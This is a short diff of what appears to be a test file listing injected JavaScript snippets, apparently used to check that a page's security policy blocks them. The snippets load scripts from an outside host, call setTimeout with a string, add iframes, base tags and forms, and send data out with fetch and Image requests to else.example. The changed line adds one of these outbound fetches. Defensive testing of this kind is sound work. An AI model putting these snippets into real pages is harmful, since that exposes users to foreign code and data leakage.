@@ -158,7 +158,7 @@ INJECTED = {
     "script of others": "const s = document.createElement('script'); s.src = 'https://else.example/x.js'; document.head.append(s)",
     "eval": "setTimeout('window.ran = 1')",
     "frame": "const f = document.createElement('iframe'); f.src = 'tim-kiem/index.html'; document.body.append(f)",
-    "fetch": "fetch('assets/site.css').catch(() => {})",
+    "word to others": "fetch('https://else.example/?word').catch(() => {})",
     "picture of others": "new Image().src = 'https://else.example/x.png'",
     "base": "const b = document.createElement('base'); b.href = 'https://else.example/'; document.head.prepend(b)",
     "form": "const f = document.createElement('form'); f.action = 'https://else.example/'; document.body.append(f); f.submit()",
